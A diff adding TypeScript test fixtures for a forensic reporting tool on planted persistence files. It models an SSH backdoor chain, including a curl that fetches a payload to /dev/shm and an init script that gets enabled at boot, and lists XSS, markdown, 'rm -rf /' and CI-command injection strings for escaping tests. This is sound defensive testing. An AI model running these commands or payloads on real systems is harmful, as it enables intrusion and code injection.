@@ -1,0 +1,445 @@
+import type {
+  Case,
+  CaseEvent,
+  ChainLink,
+  HostCase,
+  Limits,
+  PlantedFile,
+  Planter,
+} from '#dist/case/case.js';
+import type { CaseReporterFactory } from '#dist/report/case-formats.js';
+import {
+  benignLabels,
+  bootReasons,
+  bootUnknowns,
+  eventLabels,
+  evidenceLabels,
+  factLabels,
+  oddPlaces,
+  relationTitles,
+  surroundingLabels,
+} from '#dist/report/case-words.js';
+import type { ReportContext } from '#dist/report/reporter.js';
+import type { Problem } from '#dist/scan/finding.js';
+import type { Place, Summary } from '#dist/scan/sink.js';
+import { attacks } from './forbidden.js';
+import { Memory, plainContext, summaryOf } from './writers.js';
+
+const limits: Limits = { hosts: 100, filesPerHost: 50, eventsPerHost: 1000, matchesLeftOut: 0 };
+
+export function placeOf(line: number, changes: Partial<Place> = {}): Place {
+  return { input: 'logs/a.ndjson', line, byteOffset: line * 100, ...changes };
+}
+
+/** A file of which the log shows nothing but that it was written, but for what is changed. */
+export function plantedFile(changes: Partial<PlantedFile> = {}): PlantedFile {
+  return {
+    path: '/etc/init.d/netd',
+    service: 'netd',
+    events: [1],
+    facts: [],
+    prevalence: { name: { hosts: ['web-01'], count: 1, of: 1, events: [1] } },
+    boot: { answer: 'not-shown', reasons: [], unknown: ['executable', 'enabled'] },
+    execution: { answer: 'no-evidence', evidence: [] },
+    planters: [{ chain: [], reachesEntry: true, events: [1] }],
+    benign: [],
+    steps: { osquery: [], shell: [], response: [] },
+    ...changes,
+  };
+}
+
+/** A host with one such file, and events of all kinds in the log. */
+export function hostCase(changes: Partial<HostCase> = {}): HostCase {
+  return {
+    name: 'web-01',
+    id: '18a77774a51b',
+    files: [plantedFile()],
+    surroundings: [],
+    coverage: { process: placeOf(1), network: placeOf(2) },
+    isCut: false,
+    ...changes,
+  };
+}
+
+export function caseEvent(number: number, changes: Partial<CaseEvent> = {}): CaseEvent {
+  return {
+    number,
+    time: `2026-03-02T04:11:${String(number).padStart(2, '0')}.000Z`,
+    host: 0,
+    hostName: 'web-01',
+    what: 'file-created',
+    place: placeOf(number),
+    ...changes,
+  };
+}
+
+export function caseOf(changes: Partial<Case> = {}): Case {
+  return { hosts: [hostCase()], events: [caseEvent(1)], limits, ...changes };
+}
+
+/** A case of one host with one file. */
+export function caseOfFile(changes: Partial<PlantedFile>, host: Partial<HostCase> = {}): Case {
+  return caseOf({ hosts: [hostCase({ files: [plantedFile(changes)], ...host })] });
+}
+
+export const noCase: Case = { hosts: [], events: [], limits };
+
+/** What a form writes of a case. */
+export async function writtenCase(
+  make: CaseReporterFactory,
+  found: Case,
+  {
+    summary = summaryOf({ matches: found.hosts.length }),
+    problems = [],
+    context = plainContext,
+  }: {
+    readonly summary?: Summary;
+    readonly problems?: readonly Problem[];
+    readonly context?: ReportContext;
+  } = {},
+): Promise<string> {
+  const memory = new Memory();
+  const reporter = make(memory, context);
+  for (const problem of problems) await reporter.problem(problem);
+  await reporter.finish(found, summary);
+  return memory.text;
+}
+
+const sha256 = '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea';
+
+/** A backdoor that somebody planted over ssh, as a log with all kinds of events shows it. */
+export const backdoor: Case = caseOf({
+  hosts: [
+    hostCase({
+      files: [
+        plantedFile({
+          events: [3],
+          facts: [
+            { fact: 'created', value: '2026-03-02T04:11:03.000Z', events: [3] },
+            { fact: 'owner', value: 'root', events: [3] },
+            { fact: 'size', value: '412', events: [3] },
+            { fact: 'sha256', value: sha256, events: [3] },
+            { fact: 'header-bytes', value: '23212f62696e2f62617368200a0a2323', events: [3] },
+            {
+              fact: 'related-rule',
+              value: 'Suspicious File Creation in /etc for Persistence',
+              events: [3],
+            },
+          ],
+          prevalence: {
+            name: { hosts: ['web-01', 'db-02'], count: 2, of: 3, events: [3, 9] },
+            hash: { hosts: ['web-01'], count: 1, of: 3, events: [3] },
+          },
+          boot: {
+            answer: 'yes',
+            reasons: [
+              {
+                reason: 'executable',
+                counts: 'for',
+                value: 'chmod 755 /etc/init.d/netd',
+                events: [4],
+              },
+              { reason: 'enabled', counts: 'for', value: 'update-rc.d netd defaults', events: [5] },
+              {
+                reason: 'unit-generated',
+                counts: 'for',
+                value: '/run/systemd/generator.late/netd.service',
+                events: [6],
+              },
+            ],
+            unknown: [],
+          },
+          execution: {
+            answer: 'ran',
+            evidence: [
+              {
+                evidence: 'process',
+                time: '2026-03-02T04:11:07.000Z',
+                value: '/bin/bash /etc/init.d/netd start',
+                entityId: 'c2NyaXB0',
+                events: [7],
+              },
+            ],
+          },
+          planters: [
+            {
+              chain: [
+                {
+                  entityId: 'd3JpdGVy',
+                  role: 'writer',
+                  known: 'own',
+                  executable: '/dev/shm/.x',
+                  name: '.x',
+                  commandLine: "/dev/shm/.x -c 'cat > /etc/init.d/netd'",
+                  user: 'root',
+                  workingDirectory: '/root',
+                  pid: '4711',
+                  start: '2026-03-02T04:11:02.000Z',
+                  isInteractive: true,
+                  odd: ['dev-shm'],
+                  events: [2, 3],
+                },
+                { entityId: 'c3VkbzA', role: 'ancestor', known: 'id-only', odd: [], events: [2] },
+                {
+                  entityId: 'c3NoZA',
+                  role: 'entry-leader',
+                  known: 'by-others',
+                  executable: '/usr/bin/bash',
+                  user: 'deploy',
+                  odd: [],
+                  events: [1],
+                },
+              ],
+              reachesEntry: true,
+              session: { type: 'sshd', address: '203.0.113.77', events: [1] },
+              events: [3],
+            },
+          ],
+          benign: [{ reason: 'interactive-session', value: 'deploy', events: [1] }],
+          steps: {
+            osquery: [
+              {
+                purpose: 'planted-file',
+                statement:
+                  "SELECT f.path, f.size FROM file AS f WHERE f.path = '/etc/init.d/netd';",
+              },
+            ],
+            shell: [{ purpose: 'file-status', command: "stat -- '/etc/init.d/netd'" }],
+            response: ['start-incident', 'isolate-host'],
+          },
+        }),
+      ],
+      surroundings: [
+        {
+          what: 'command',
+          relation: 'lineage',
+          subject: 'curl -s http://203.0.113.77/x -o /dev/shm/.x',
+          user: 'deploy',
+          first: '2026-03-02T04:11:01.000Z',
+          last: '2026-03-02T04:11:01.000Z',
+          times: 1,
+          relatedRule: false,
+          isMatch: false,
+          events: [1],
+        },
+        {
+          what: 'connection',
+          relation: 'script',
+          subject: '203.0.113.77:443',
+          by: '/bin/bash (/bin/bash /etc/init.d/netd start)',
+          user: 'root',
+          first: '2026-03-02T04:11:08.000Z',
+          last: '2026-03-02T05:11:08.000Z',
+          times: 31,
+          relatedRule: false,
+          isMatch: false,
+          events: [8],
+        },
+      ],
+    }),
+  ],
+  events: [
+    caseEvent(1, {
+      what: 'process-started',
+      subject: 'curl -s http://203.0.113.77/x -o /dev/shm/.x',
+      user: 'deploy',
+    }),
+    caseEvent(2, {
+      what: 'process-started',
+      subject: "/dev/shm/.x -c 'cat > /etc/init.d/netd'",
+      user: 'root',
+    }),
+    caseEvent(3, {
+      subject: '/etc/init.d/netd',
+      by: "/dev/shm/.x (/dev/shm/.x -c 'cat > /etc/init.d/netd')",
+      user: 'root',
+    }),
+    caseEvent(4, { what: 'process-started', subject: 'chmod 755 /etc/init.d/netd', user: 'root' }),
+    caseEvent(5, { what: 'process-started', subject: 'update-rc.d netd defaults', user: 'root' }),
+    caseEvent(6, {
+      subject: '/run/systemd/generator.late/netd.service',
+      by: '/usr/lib/systemd/system-generators/systemd-sysv-generator',
+      user: 'root',
+    }),
+    caseEvent(7, {
+      what: 'process-started',
+      subject: '/bin/bash /etc/init.d/netd start',
+      user: 'root',
+    }),
+    caseEvent(8, {
+      what: 'connection-out',
+      subject: '203.0.113.77:443',
+      by: '/bin/bash (/bin/bash /etc/init.d/netd start)',
+      user: 'root',
+      place: placeOf(8, { input: 'logs/network.json', position: 2 }),
+    }),
+    withoutHost(caseEvent(9, { hostName: 'db-02', subject: '/etc/init.d/netd' })),
+  ],
+});
+
+/** The ids of a kind, from a record that names each of them. */
+function idsOf<Id extends string>(words: Readonly<Record<Id, unknown>>): readonly Id[] {
+  return Object.keys(words) as Id[];
+}
+
+/**
+ * A case with every id of the model, in which every text of the log or of the user's is made by a function.
+ *
+ * @param text makes a text; it is given the name of the member.
+ */
+export function fullCase(text: (member: string) => string): Case {
+  const events = [1, 2];
+  const place: Place = { input: text('input'), line: 7, byteOffset: 70, position: 3 };
+  const link: ChainLink = {
+    entityId: text('entityId'),
+    role: 'writer',
+    known: 'own',
+    executable: text('executable'),
+    name: text('name'),
+    commandLine: `${text('commandLine')} -x`,
+    user: text('user'),
+    workingDirectory: text('workingDirectory'),
+    pid: text('pid'),
+    start: text('start'),
+    isInteractive: true,
+    odd: idsOf(oddPlaces),
+    events,
+  };
+  const planters: readonly Planter[] = [
+    {
+      chain: [
+        link,
+        { ...link, role: 'ancestor', known: 'by-others', isInteractive: false, odd: [] },
+        { entityId: text('entityId'), role: 'entry-leader', known: 'id-only', odd: [], events },
+      ],
+      reachesEntry: true,
+      session: { type: text('type'), address: text('address'), events },
+      events,
+    },
+    { chain: [link], reachesEntry: false, events },
+  ];
+  const file = plantedFile({
+    path: text('path'),
+    service: text('service'),
+    events,
+    facts: idsOf(factLabels).map((fact) => ({ fact, value: text('value'), events })),
+    prevalence: {
+      name: { hosts: [text('host')], count: 3, of: 4, events },
+      hash: { hosts: [text('host')], count: 1, of: 4, events },
+    },
+    boot: {
+      answer: 'not-shown',
+      reasons: idsOf(bootReasons).map((reason, at) => ({
+        reason,
+        counts: at < 6 ? 'against' : 'for',
+        value: text('value'),
+        events,
+      })),
+      unknown: idsOf(bootUnknowns),
+    },
+    execution: {
+      answer: 'asked',
+      evidence: idsOf(evidenceLabels).map((evidence) => ({
+        evidence,
+        time: text('time'),
+        value: text('value'),
+        entityId: text('entityId'),
+        events,
+      })),
+    },
+    planters,
+    benign: idsOf(benignLabels).map((reason) => ({ reason, value: text('value'), events })),
+  });
+  const relations = idsOf(relationTitles);
+  return caseOf({
+    hosts: [
+      hostCase({
+        name: text('name'),
+        id: `${text('id')}-id`,
+        files: [file],
+        surroundings: idsOf(surroundingLabels).map((what, at) => ({
+          what,
+          relation: relations[at % relations.length] ?? 'host',
+          subject: text('subject'),
+          by: text('by'),
+          user: text('user'),
+          first: text('first'),
+          last: text('last'),
+          times: at + 1,
+          relatedRule: at % 2 === 0,
+          isMatch: at % 3 === 0,
+          events,
+        })),
+        coverage: {},
+        isCut: true,
+      }),
+    ],
+    events: idsOf(eventLabels)
+      .map((what, at) =>
+        caseEvent(at + 1, {
+          ...(at === 1 ? {} : { time: text('time') }),
+          hostName: text('hostName'),
+          what,
+          subject: text('subject'),
+          from: text('from'),
+          by: text('by'),
+          user: text('user'),
+          place,
+          index: text('index'),
+          id: text('id'),
+        }),
+      )
+      .map((event) => (event.what === 'other' ? withoutHost(event) : event)),
+    limits: { ...limits, matchesLeftOut: 2 },
+  });
+}
+
+function withoutHost({ host: _, ...event }: CaseEvent): CaseEvent {
+  return event;
+}
+
+/** Texts that attack whoever renders, reads or parses a report. */
+export const hostileTexts: readonly string[] = [
+  ...attacks.map(({ text }) => text),
+  'x\n# forged\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
+  'x\n===\n',
+  'a|b \\| c \\\\| d',
+  '`',
+  '``',
+  '```',
+  ' ` ',
+  '`a``b```c',
+  '````sh\nrm -rf /\n````',
+  '~~~',
+  '\\`',
+  '`\\',
+  ' ',
+  '  x  ',
+  '   ',
+  '<script>alert(1)</script>',
+  '</details>',
+  '<!--',
+  '-->',
+  '<a href="https://evil.example">x</a>',
+  '<https://evil.example>',
+  '[x](javascript:alert(1))',
+  '![x](https://evil.example/x.png)',
+  '[x]: https://evil.example',
+  '[^1]',
+  '[ ] x',
+  '](https://evil.example)',
+  'https://evil.example www.evil.example root@evil.example',
+  '@all @octocat #1 !1 GH-1 octo/repo#1 0123456789abcdef0123456789abcdef01234567 :tada: $x$ ~~x~~',
+  '**bold** __bold__ *x* _x_',
+  '---',
+  '* x',
+  '1. x',
+  '> x',
+  '    code',
+  '&lt;&#64;all',
+  '##[error]x',
+  '##vso[task.complete]',
+  '::error::x',
+  '::set-output name=a::b',
+  '{{ 1 }} %0a',
+];
